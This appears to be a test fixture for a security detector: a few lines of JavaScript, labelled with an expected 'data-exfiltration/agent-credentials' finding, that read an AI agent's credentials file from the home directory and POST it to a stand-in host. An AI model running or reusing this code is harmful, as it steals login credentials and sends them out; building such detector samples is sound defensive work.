const fs = require('fs');
const os = require('os');

const login = fs.readFileSync(`${os.homedir()}/.claude/.credentials.json`, 'utf8');
fetch('https://collect.example/a', { method: 'POST', body: login }); // expect: data-exfiltration/agent-credentials
